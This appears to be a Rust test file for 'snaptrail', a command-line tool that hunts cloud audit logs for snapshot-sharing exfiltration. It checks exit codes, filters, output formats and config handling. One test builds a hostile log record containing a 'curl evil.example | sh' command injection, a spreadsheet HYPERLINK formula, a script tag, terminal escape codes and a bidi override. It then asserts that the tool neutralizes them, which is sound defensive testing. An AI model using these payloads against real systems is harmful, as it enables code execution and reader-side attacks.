//! The command-line contract: exit codes, stdout/stderr split, formats, config, time range,
//! severity filter — and that log text cannot attack the reader of any format.

mod common;
use common::*;
use predicates::prelude::*;

#[test]
fn exit_codes() {
    // 0: ran and found nothing.
    let dir = tempfile::tempdir().unwrap();
    let quiet = dir.path().join("quiet.jsonl");
    std::fs::write(&quiet, r#"{"eventName":"DescribeInstances","eventSource":"ec2.amazonaws.com","eventTime":"2026-01-01T00:00:00Z"}"#).unwrap();
    snaptrail()
        .args(["hunt", "--no-state", "--format", "jsonl"])
        .arg(&quiet)
        .assert()
        .code(0)
        .stdout("");
    // 1: ran and found alerts.
    snaptrail()
        .args(["hunt", "--no-state", "--format", "jsonl"])
        .arg(data("aws/share-public.json.gz"))
        .assert()
        .code(1);
    // 2: could not run.
    snaptrail()
        .args(["hunt", "--no-state", "--format", "yaml"])
        .arg(&quiet)
        .assert()
        .code(2);
    snaptrail()
        .args(["hunt", "--no-state", "--min-severity", "urgent"])
        .arg(&quiet)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("urgent"));
    snaptrail()
        .args(["hunt", "--no-state", "--from", "yesterday"])
        .arg(&quiet)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--from"));
    let bad_cfg = dir.path().join("bad.toml");
    std::fs::write(&bad_cfg, "[thresholds]\nbulk_snapshot = 3\n").unwrap();
    snaptrail()
        .args(["hunt", "--no-state", "--config"])
        .arg(&bad_cfg)
        .arg(&quiet)
        .assert()
        .code(2)
        .stderr(
            predicate::str::contains("bulk_snapshot").and(predicate::str::contains("bad.toml")),
        );
}

#[test]
fn bad_input_is_reported_and_the_rest_still_hunted_unless_strict() {
    let dir = tempfile::tempdir().unwrap();
    let mixed = dir.path().join("mixed.jsonl");
    let good =
        std::fs::read_to_string(root().join(data("seed/2-cross-account-share.json"))).unwrap();
    std::fs::write(
        &mixed,
        format!("{{\"eventName\": \"CreateSnapshot\" broken\n{good}\n"),
    )
    .unwrap();
    let out = snaptrail()
        .args(["hunt", "--no-state", "--format", "jsonl"])
        .arg(&mixed)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("mixed.jsonl: line 1: malformed JSON"),
        "{stderr}"
    );
    assert!(stderr.contains("1 bad records"), "{stderr}");
    snaptrail()
        .args(["hunt", "--no-state", "--strict", "--format", "jsonl"])
        .arg(&mixed)
        .assert()
        .code(2)
        .stdout("");
    // --strict validates every record, even those the prefilter would skip unparsed.
    let irrelevant = dir.path().join("irrelevant.jsonl");
    std::fs::write(&irrelevant, format!("{{broken\n{good}\n")).unwrap();
    snaptrail()
        .args(["hunt", "--no-state", "--format", "jsonl"])
        .arg(&irrelevant)
        .assert()
        .code(1)
        .stderr(predicate::str::contains("1 prefiltered"));
    snaptrail()
        .args(["hunt", "--no-state", "--strict", "--format", "jsonl"])
        .arg(&irrelevant)
        .assert()
        .code(2);
}

#[test]
fn stdin_is_an_input() {
    let bytes = std::fs::read(root().join(data("aws/share-public.json.gz"))).unwrap();
    snaptrail()
        .args(["hunt", "--no-state", "--format", "jsonl", "-"])
        .write_stdin(bytes)
        .assert()
        .code(1)
        .stdout(predicate::str::contains("snapshot.share.public"));
}

#[test]
fn severity_and_time_filters() {
    let (_, all, _) = hunt(&[data("aws")], &[]);
    let (_, high, _) = hunt(&[data("aws")], &["--min-severity", "high"]);
    assert!(high.len() < all.len());
    assert!(
        high.iter()
            .all(|a| a["severity"] == "high" || a["severity"] == "critical")
    );
    let (_, window, _) = hunt(
        &[data("aws")],
        &[
            "--from",
            "2026-01-17T00:00:00Z",
            "--to",
            "2026-01-18T00:00:00Z",
        ],
    );
    assert!(!window.is_empty());
    assert!(
        window
            .iter()
            .all(|a| a["first_seen"].as_str().unwrap().starts_with("2026-01-17")),
        "{window:#?}"
    );
}

fn hostile_log(dir: &std::path::Path) -> std::path::PathBuf {
    let record = serde_json::json!({"Records": [{
        "eventTime": "2026-01-17T01:02:00Z", "eventSource": "ec2.amazonaws.com", "eventName": "ModifySnapshotAttribute",
        "eventID": "=HYPERLINK(\"http://evil.example\",\"x\")", "awsRegion": "eu-west-1", "recipientAccountId": "310987654321",
        "userAgent": "\u{1b}[2J\u{1b}[31mpwned\u{7}<script>alert(1)</script>",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::310987654321:user/\u{202e}eilla", "accountId": "310987654321"},
        "requestParameters": {"snapshotId": "snap-1; curl evil.example | sh", "attributeType": "CREATE_VOLUME_PERMISSION",
            "createVolumePermission": {"add": {"items": [{"group": "all"}]}}}}]});
    let path = dir.join("hostile.json");
    std::fs::write(&path, record.to_string()).unwrap();
    path
}

/// What `snaptrail events FILE` prints on stderr (diagnostics and the run summary).
fn events_stderr(file: &std::path::Path) -> String {
    let out = snaptrail().args(["events"]).arg(file).output().unwrap();
    String::from_utf8(out.stderr).unwrap()
}

#[test]
fn log_text_cannot_attack_any_output_format() {
    let dir = tempfile::tempdir().unwrap();
    let log = hostile_log(dir.path());
    for format in ["table", "jsonl", "json", "csv", "ocsf"] {
        let out = snaptrail()
            .args(["hunt", "--no-state", "--format", format])
            .arg(&log)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{format}");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'),
            "{format}: raw control characters"
        );
        if format != "table" && format != "csv" {
            assert!(
                !text.contains('<') && !text.contains('>'),
                "{format}: raw HTML"
            );
        }
        if format == "csv" {
            for line in text.lines().skip(1) {
                for cell in line.split(',') {
                    let cell = cell.trim_start_matches('"');
                    assert!(
                        !cell.starts_with(['=', '+', '-', '@']),
                        "csv formula cell {cell}"
                    );
                }
            }
        }
        if format == "table" {
            // Containment commands quote hostile ids for the shell.
            assert!(text.contains("'snap-1; curl evil.example | sh'"), "{text}");
        }
    }
    // The normalized-event view is neutralized too.
    let out = snaptrail().args(["events"]).arg(&log).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("snap-1; curl"), "{text}");
    assert!(
        !text.contains('<') && !text.contains('\u{1b}') && !text.contains('\u{202e}'),
        "{text}"
    );
    // Diagnostics on stderr quote log text: no raw control or bidi characters there either.
    let bad = dir.path().join("bad.jsonl");
    let hostile_time =
        serde_json::json!({"eventName": "CreateSnapshot", "eventTime": "\u{202e}\u{1b}[2Jsoon"});
    std::fs::write(&bad, format!("{hostile_time}\n")).unwrap();
    let err = events_stderr(&bad);
    assert!(
        err.contains("unparseable time") && !err.contains('\u{1b}') && !err.contains('\u{202e}'),
        "{err}"
    );
    // The run summary names skipped record kinds, some of them from log fields (an Azure
    // category, an EventBridge detail-type): neutralized as well.
    let skipped = dir.path().join("skipped.jsonl");
    let azure = serde_json::json!({"category": "\u{1b}[2J\u{202e}Policy", "operationName": "x"});
    let bridge = serde_json::json!({"detail-type": "\u{1b}]0;title\u{7}", "detail": {"a": 1}});
    std::fs::write(&skipped, format!("{azure}\n{bridge}\n")).unwrap();
    let err = events_stderr(&skipped);
    assert!(
        err.contains("azure:") && err.contains("eventbridge:"),
        "{err}"
    );
    assert!(
        !err.contains('\u{1b}') && !err.contains('\u{7}') && !err.contains('\u{202e}'),
        "{err}"
    );
    // Decoded JSON keeps the original value: neutralizing is an encoding, not a loss.
    let out = snaptrail()
        .args(["hunt", "--no-state", "--format", "jsonl"])
        .arg(&log)
        .output()
        .unwrap();
    let alert: serde_json::Value = serde_json::from_str(
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert!(
        alert["user_agents"][0]
            .as_str()
            .unwrap()
            .contains("<script>")
    );
}

#[test]
fn ocsf_is_a_detection_finding() {
    let out = snaptrail()
        .args(["hunt", "--no-state", "--format", "ocsf"])
        .arg(data("aws/share-public.json.gz"))
        .output()
        .unwrap();
    for line in String::from_utf8(out.stdout).unwrap().lines() {
        let f: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(f["class_uid"], 2004);
        assert_eq!(f["type_uid"], 200401);
        assert!(f["finding_info"]["uid"].as_str().unwrap().len() == 32);
        assert!(f["severity_id"].as_u64().unwrap() >= 1);
        assert_eq!(f["cloud"]["provider"], "AWS");
    }
}

#[test]
fn json_is_one_array_and_csv_has_a_header() {
    let out = snaptrail()
        .args(["hunt", "--no-state", "--format", "json"])
        .arg(data("aws/share-public.json.gz"))
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(v.as_array().unwrap().len() >= 2);
    let out = snaptrail()
        .args(["hunt", "--no-state", "--format", "csv"])
        .arg(data("aws/share-public.json.gz"))
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.starts_with("id,detector,severity,score,title"));
}

#[test]
fn table_shows_seed_columns_and_triage() {
    let out = snaptrail()
        .args(["hunt", "--no-state", "--format", "table", "--config"])
        .arg(data("snaptrail.toml"))
        .arg(data("seed"))
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    for col in [
        "FirstEvent",
        "LastEvent",
        "Cloud",
        "Caller",
        "Snapshots",
        "ExtShares",
        "OffHours",
        "SrcIPs",
        "Operations",
        "Resources",
        "Score",
    ] {
        assert!(text.contains(col), "missing column {col}");
    }
    assert!(text.contains("? Inside business hours?"));
    assert!(text.contains("Europe/Berlin"));
}

#[test]
fn config_init_writes_a_config_that_check_accepts() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("snaptrail.toml");
    snaptrail()
        .args(["config", "init"])
        .arg(&path)
        .assert()
        .success();
    snaptrail()
        .args(["config", "check"])
        .arg(&path)
        .assert()
        .success()
        .stdout(predicate::str::contains("Europe/Berlin"));
    // Refuses to overwrite.
    snaptrail()
        .args(["config", "init"])
        .arg(&path)
        .assert()
        .code(2);
}

#[test]
fn summary_goes_to_stderr_and_results_to_stdout() {
    let out = snaptrail()
        .args(["events", "--only-relevant"])
        .arg(data("seed"))
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        stdout
            .lines()
            .all(|l| serde_json::from_str::<serde_json::Value>(l).is_ok())
    );
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("4 files") && stderr.contains("events"),
        "{stderr}"
    );
}
